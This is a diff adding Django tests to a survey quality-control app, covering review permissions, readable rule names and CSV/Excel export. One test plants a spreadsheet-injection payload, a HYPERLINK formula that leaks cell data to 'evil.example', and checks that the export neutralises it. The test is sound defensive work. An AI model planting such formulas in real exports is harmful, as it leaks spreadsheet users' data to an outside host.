@@ -12,9 +12,11 @@ from openpyxl import load_workbook
 from accounts.models import Role
 from fieldwork.models import Case, Interview
 from fieldwork.telephony_models import Call
+from qc import presenters, rules
 from qc.models import BackCheck, Flag, QCSettings, Review
 from qc.rules import RuleConfig
 from qc.services import (
+    BACKCHECK_RULE,
     approve_interview,
     check_completed_interview,
     check_interviews,
@@ -370,3 +372,101 @@ def test_backcheck_on_an_already_rejected_interview_only_flags_it(
     assert done.outcome == BackCheck.Outcome.REJECTED
     assert Review.objects.get(pk=review.pk).events.count() == 3  # no new move
     assert Flag.objects.filter(interview=interview, rule="backcheck_discrepancy").exists()
+
+
+def test_detail_offers_a_reversal_only_to_a_lead_not_yet_involved(client, flagged, analyst):
+    lead = make_user("lead", Role.ANALYST)
+    third = make_user("lead3", Role.ANALYST)
+    review = Review.objects.get(interview=flagged)
+    approve_interview(review=review, user=analyst)
+    reject_interview(review=review, user=lead, reason="代答")
+    for user in (analyst, lead):  # the proposer and the decider
+        actions = login(client, user).get(detail(flagged)).context["actions"]
+        assert (actions["approve"], actions["final"], actions["rerelease"]) == (False, False, True)
+        response = client.post(reverse("qc:review_approve", args=[flagged.pk]), {})
+        assert response.status_code == 302
+        assert Review.objects.get(pk=review.pk).state == S.REJECTED
+    actions = login(client, third).get(detail(flagged)).context["actions"]
+    assert actions["approve"] and actions["final"]
+
+
+def test_spreadsheet_cell_quotes_what_a_spreadsheet_would_run():
+    for text in ("=1+1", "+86 138", "-1", "@SUM(A1)", "\tx", "\rx"):
+        assert presenters.spreadsheet_cell(text) == "'" + text
+    for value in ("录音无误", "a=b", "'=1", "", 3, -2.5, None):
+        assert presenters.spreadsheet_cell(value) == value
+
+
+def test_export_quotes_staff_texts_that_look_like_formulas(
+    client, world, interviewer, supervisor, analyst
+):
+    interviewer.first_name = "@SUM(A1:A9)"
+    interviewer.save(update_fields=["first_name"])
+    interview = world.interview(interviewer, answers=straight_answers("4"), duration=45)
+    review = check_completed_interview(interview)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
+    reject_interview(review=review, user=supervisor, reason=formula)
+    reject_interview(review=review, user=analyst, reason="-1+1")
+    login(client, supervisor)
+    url = reverse("qc:export", args=[world.wave.pk])
+
+    rows = list(csv.reader(io.StringIO(client.get(url).content.decode("utf-8-sig"))))
+    assert {r[1] for r in rows[1:]} == {"'@SUM(A1:A9)"}
+    events = client.get(url, {"table": "events"}).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(events)))
+    assert [r[5] for r in rows[2:]] == ["'" + formula, "'-1+1"]
+
+    book = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content))
+    reasons = [row[5] for row in book["events"].iter_rows(min_row=3, values_only=True)]
+    assert reasons == ["'" + formula, "'-1+1"]
+    cells = [row[1] for row in book["flags"].iter_rows(min_row=2)]
+    assert cells and all(c.value == "'@SUM(A1:A9)" and c.data_type == "s" for c in cells)
+
+
+def test_every_rule_has_a_readable_name():
+    assert list(presenters.RULE_LABELS) == [*rules.RULES, BACKCHECK_RULE]
+    labels = [str(label) for label in presenters.RULE_LABELS.values()]
+    assert len(set(labels)) == len(labels)
+    assert not set(labels) & set(presenters.RULE_LABELS)  # no label is a bare code
+    assert presenters.rule_label("not_a_rule") == "not_a_rule"
+
+
+@pytest.mark.usefixtures("english")
+def test_pages_and_export_name_rules_not_codes(client, world, interviewer, supervisor):
+    interview = world.interview(interviewer, answers=straight_answers("4"), duration=45)
+    review = check_completed_interview(interview)
+    reject_interview(review=review, user=supervisor, reason="代答")
+    login(client, supervisor)
+
+    dashboard = client.get(reverse("qc:dashboard", args=[world.wave.pk]))
+    chart = str(dashboard.context["data"]["charts"]["rule"])
+    assert ">Same answer throughout<" in chart and ">Too short<" in chart
+    assert "straightlining" not in chart
+
+    page = client.get(detail(interview))
+    assert page.context["history"][-1]["rules"] == [
+        "Too short (High)",
+        "Same answer throughout (Medium)",
+    ]
+    assert [f["rule_label"] for f in page.context["flags"]] == [
+        "Too short",
+        "Same answer throughout",
+    ]
+    assert '<option value="straightlining">Same answer throughout</option>' in (
+        client.get(LIST).text
+    )
+    row = client.get(LIST).context["rows"][0]
+    assert [f["rule_label"] for f in row["flags"]] == ["Too short", "Same answer throughout"]
+
+    rows = list(
+        csv.reader(
+            io.StringIO(
+                client.get(reverse("qc:export", args=[world.wave.pk])).content.decode("utf-8-sig")
+            )
+        )
+    )
+    assert rows[0][-1] == "rule_label"
+    assert sorted((r[4], r[-1]) for r in rows[1:]) == [
+        ("rushed", "Too short"),
+        ("straightlining", "Same answer throughout"),
+    ]
